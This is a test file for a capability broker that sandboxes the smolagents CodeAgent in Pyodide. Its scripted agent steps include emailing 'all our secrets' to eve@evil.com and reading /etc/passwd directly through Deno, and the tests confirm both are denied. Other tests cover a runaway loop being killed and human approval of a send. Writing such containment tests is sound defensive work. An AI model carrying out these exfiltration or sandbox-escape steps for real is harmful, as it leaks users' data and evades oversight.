"""smolagents' CodeAgent runs its code steps in libos's Pyodide sandbox: a scripted model (the
agent's own `Model` interface) writes the code, each step is one call of the process's runner
tool, and the agent's tools inside it are libos tool calls (a host tool, and a TypeScript
tool in Deno), checked, asked and audited."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import trio
from smolagents import CodeAgent
from smolagents.models import ChatMessage, MessageRole, Model

from broker import AgentImage, CallLimits, Kernel
from broker.adapters.gate import ToolGate, run_sync
from broker.adapters.smolagents import LibosPythonExecutor, code_tool, smolagents_tools
from sandboxes.deno import DenoSandbox
from sandboxes.pyodide import PyodideSandbox, pyodide_available
from tests.broker.adapters.conftest import CAPS, SHOUT_TOOL, World, send_email

pytestmark = pytest.mark.skipif(not pyodide_available(),
                                reason="Pyodide is not set up (run `libos setup`)")

LIMITS = CallLimits(deadline=10.0, memory_mb=256)


class Scripted(Model):
    """Answers each step with the next scripted code, and keeps what the agent showed it."""

    def __init__(self, *steps: str) -> None:
        super().__init__(model_id="scripted")
        self.steps = list(steps)
        self.seen: list[str] = []

    def generate(self, messages: list[Any], stop_sequences: Any = None,
                 response_format: Any = None, tools_to_call_from: Any = None,
                 **kwargs: Any) -> ChatMessage:
        content = messages[-1].content
        self.seen.append(content if isinstance(content, str) else
                         "".join(part.get("text", "") for part in content))
        code = self.steps.pop(0)
        return ChatMessage(role=MessageRole.ASSISTANT,
                           content=f"Thought: next.\n<code>\n{code}\n</code>")


@pytest.fixture
async def coder(tmp_path: Path) -> AsyncIterator[World]:
    outbox: list[str] = []
    for folder in ("notes", "shared"):
        (tmp_path / "libos-fs" / folder).mkdir(parents=True)
    async with DenoSandbox(spares=1, memory_mb=96) as deno, \
            PyodideSandbox(spares=1, memory_mb=LIMITS.memory_mb) as pyodide, \
            Kernel.open(tmp_path / "libos.db", sandboxes=[deno, pyodide],
                        host_tools=[send_email], host_state=outbox,
                        call_limits=LIMITS) as kernel:
        await kernel.register_image(AgentImage(
            "coder", tools=("send_email", SHOUT_TOOL, code_tool()),
            needs=["email:*:send", "fs:/**:read,write"]))
        pid = kernel.spawn("coder", caps=CAPS)
        yield World(kernel, pid, tmp_path / "libos-fs", outbox)


async def run_agent(world: World, model: Scripted, task: str = "go") -> Any:
    async with ToolGate.open(world.kernel, world.pid, who="smolagents") as gate:
        agent = CodeAgent(tools=smolagents_tools(gate), model=model, max_steps=8,
                          executor=LibosPythonExecutor(gate), verbosity_level=-1)
        return await run_sync(agent.run, task)


async def test_code_steps_run_under_the_process_capabilities(coder: World) -> None:
    model = Scripted(
        'sent = send_email(to="bob@example.com", subject="hi")\nprint("sent", sent)',
        'send_email(to="eve@evil.com", subject="all our secrets")',
        'send_email(to=5, subject="x")',
        'written = shout(path="/notes/n.txt", text="ship it")\nwritten',
        'import js\njs.Deno.readTextFileSync("/etc/passwd")',
        'final_answer({"sent": sent, "written": written})')
    result = await run_agent(coder, model)
    assert result == {"sent": {"queued": 1}, "written": {"written": "/notes/n.txt"}}
    assert "sent {'queued': 1}" in model.seen[1]  # the step's print, then its value
    assert "NotCapable (NOT_CAPABLE): no capability for email:send on 'eve@evil.com'" \
        in model.seen[2]
    assert "(INVALID_ARGUMENT)" in model.seen[3]
    assert "{'written': '/notes/n.txt'}" in model.seen[4]
    # The code reaches past libos to Deno itself, which has no permission at all.
    assert 'Requires read access to "/etc/passwd"' in model.seen[5]
    assert "root:" not in model.seen[5]
    assert coder.outbox == ["bob@example.com"]
    assert (coder.root / "notes" / "n.txt").read_text() == "SHIP IT"
    records = coder.records()
    # One per step: its intent, or (a step with no effect of its own) one whole record.
    assert (records.count(("intent", "tool.call", "python_code"))
            + records.count(("intent+outcome", "tool.call", "python_code"))) == 6
    assert ("denied", "host.send_email", "eve@evil.com") in records
    assert ("intent", "fs.write", "/notes/n.txt") in records
    assert coder.kernel.verify_audit()[1] == []


async def test_a_step_past_its_deadline_is_killed_and_the_run_goes_on(coder: World) -> None:
    model = Scripted('while True:\n    pass',
                     'final_answer(send_email(to="bob@example.com", subject="after"))')
    result = await run_agent(coder, model)
    assert '"error": "LIMIT_EXCEEDED"' in model.seen[1]
    assert result == {"queued": 1}


async def test_an_ask_inside_a_step_waits_for_a_person(coder: World) -> None:
    """smolagents has no human-in-the-loop: the request is libos's own, answered here by the
    host's approval API; the step goes on with the answer."""
    model = Scripted('final_answer(send_email(to="ann@partner.com", subject="offer"))')
    async with trio.open_nursery() as nursery:
        result: list[Any] = []

        async def agent() -> None:
            result.append(await run_agent(coder, model))

        nursery.start_soon(agent)
        while not coder.kernel.approvals():
            await trio.sleep(0.02)
        [request] = coder.kernel.approvals()
        assert (request["syscall"], request["resource"]) == ("host.send_email",
                                                             "ann@partner.com")
        coder.kernel.approve(request["id"], who="person")
    assert result == [{"queued": 1}]
    assert coder.outbox == ["ann@partner.com"]
